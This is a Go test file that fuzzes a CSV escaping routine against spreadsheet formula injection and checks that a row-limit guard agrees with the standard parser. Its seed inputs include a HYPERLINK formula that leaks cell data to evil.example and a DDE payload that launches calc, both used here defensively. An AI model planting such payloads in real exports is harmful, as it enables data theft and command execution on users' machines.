package dataio

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"math/rand/v2"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/chanye-org/chanye"
)

// number is what a spreadsheet may be given unquoted although it begins
// with a sign: written here apart from plainNumber, to check it.
var number = regexp.MustCompile(`^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)$`)

// FuzzCSVCell writes a text into a CSV file as every export does and reads
// it back as every import does. The cell written never begins with
// = + - @ tab or carriage return unless it is a plain number, left as it
// was; encoding/csv reads back the cell written; the import reads back the
// text. A line break written \r\n inside a cell reads as \n, as in every
// CSV reader.
func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"", "=1+1", `=HYPERLINK("http://evil.example/?leak="&A2,"详情")`, "+cmd|' /C calc'!A0",
		"@SUM(1)", "-12.50", "+3", "-", "-.5", "1e5", "'", "'a", "''=", "'-1", "\t", "\tx", "\r", "\r\n=x", "a\r\nb",
		"a,b\"c", " =1", "\ufeff=1", "\xff=", "广州\n=1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		cell := CSVCell(s)
		if cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 && (!number.MatchString(cell) || cell != s) {
			t.Fatalf("CSVCell(%q) = %q, which a spreadsheet may run", s, cell)
		}
		if got := ReadCSVCell(cell); got != s {
			t.Fatalf("ReadCSVCell(CSVCell(%q)) = %q", s, got)
		}

		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		w.Write([]string{cell, "x"})
		w.Flush()
		rec, err := csv.NewReader(&buf).Read()
		if want := strings.ReplaceAll(cell, "\r\n", "\n"); err != nil || len(rec) != 2 || rec[0] != want {
			t.Fatalf("encoding/csv gives %q, %v for %q, want %q", rec, err, buf.String(), want)
		}

		var file bytes.Buffer
		out, err := newRowWriter(CSV, &file)
		if err != nil {
			t.Fatal(err)
		}
		if err := out.Write([]string{"text", "x"}); err != nil {
			t.Fatal(err)
		}
		if err := out.Write([]string{s, "x"}); err != nil {
			t.Fatal(err)
		}
		if err := out.Close(); err != nil {
			t.Fatal(err)
		}
		// A text as long as the limit imports.
		rr, err := newRowReader(CSV, &file, Limits{MaxCellChars: max(utf8.RuneCountInString(s), 4)}.withDefaults())
		if err != nil {
			t.Fatal(err)
		}
		if _, err := rr.Read(); err != nil {
			t.Fatal(err)
		}
		row, err := rr.Read()
		if strings.ContainsRune(s, 0) {
			// A NUL is refused on import, by row and column.
			if len(chanye.ErrorFields(err)) == 0 {
				t.Fatalf("a NUL cell reads %q, %v: want an error naming the cell", row, err)
			}
			return
		}
		if want := strings.ReplaceAll(s, "\r\n", "\n"); err != nil || len(row) != 2 || row[0] != want {
			t.Fatalf("import reads %q, %v from %q, want %q", row, err, file.String(), want)
		}
	})
}

// TestCSVGuardAgreesWithParser reads random CSV made of the characters that
// matter to its grammar with limits set to exactly what encoding/csv finds
// in it: csvGuard, which counts ahead of the parser, must refuse nothing,
// and one row fewer must be refused at the last row.
func TestCSVGuardAgreesWithParser(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	const alphabet = "aa\u00e9\u00e9,,\"\r\n\n'="
	runes := []rune(alphabet)
	checked := 0
	defer func() { t.Logf("%d files checked", checked) }()
	text := func(n int) string {
		var b strings.Builder
		for range rng.IntN(n) {
			b.WriteRune(runes[rng.IntN(len(runes))])
		}
		return b.String()
	}
	for n := range 20000 {
		in := text(40) // mostly refused by the parser: the guard must still agree on the rest
		if n%2 == 1 {  // written by encoding/csv, quoted where needed
			var b strings.Builder
			w := csv.NewWriter(&b)
			w.UseCRLF = n%4 == 1
			for range 1 + rng.IntN(4) {
				rec := make([]string, 1+rng.IntN(4))
				for i := range rec {
					rec[i] = text(8)
				}
				w.Write(rec)
			}
			w.Flush()
			in = b.String()
		}
		cr := csv.NewReader(strings.NewReader(in))
		cr.FieldsPerRecord = -1
		recs, err := cr.ReadAll()
		if err != nil || len(recs) == 0 {
			continue
		}
		lim := Limits{MaxRows: len(recs) - 1, MaxColumns: 1, MaxCellChars: 1}
		for _, r := range recs {
			lim.MaxColumns = max(lim.MaxColumns, len(r))
			for _, c := range r {
				lim.MaxCellChars = max(lim.MaxCellChars, utf8.RuneCountInString(ReadCSVCell(c)))
			}
		}
		read := func(lim Limits) (int, error) {
			rr, err := newRowReader(CSV, strings.NewReader(in), lim.withDefaults())
			if err != nil {
				return 0, err
			}
			rows := 0
			for {
				if _, err := rr.Read(); err == io.EOF {
					return rows, nil
				} else if err != nil {
					return rows, err
				}
				rows++
			}
		}
		if lim.MaxRows == 0 {
			continue // zero takes the default
		}
		checked++
		if rows, err := read(lim); err != nil || rows != len(recs) {
			t.Fatalf("case %d %q within %+v: %d rows, %v; encoding/csv reads %d", n, in, lim, rows, err, len(recs))
		}
		if lim.MaxRows > 1 {
			lim.MaxRows--
			_, err := read(lim)
			if _, ok := chanye.ErrorFields(err)[fmt.Sprintf("row %d", len(recs))]; !ok {
				t.Fatalf("case %d %q within %+v: %v, want row %d refused", n, in, lim, err, len(recs))
			}
		}
	}
}
